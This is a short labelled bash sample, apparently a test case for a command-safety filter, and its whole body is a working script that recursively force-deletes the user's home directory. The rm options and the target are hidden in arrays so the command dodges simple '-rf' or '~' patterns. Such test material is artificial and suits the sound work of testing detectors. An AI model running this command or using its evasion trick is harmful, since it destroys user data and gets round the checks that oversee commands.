#!/usr/bin/env bash
# evasion: deletes the home directory
# grade: medium; does: delete
# Deletes the home directory. rm's options and its target each come from an
# array expanded with "${a[@]}", so no single argument reads -rf or ~.
opts=(--recursive --force)
where=("$HOME")
cleanup() {
  /bin/rm "${opts[@]}" -- "${where[@]}"
}
cleanup
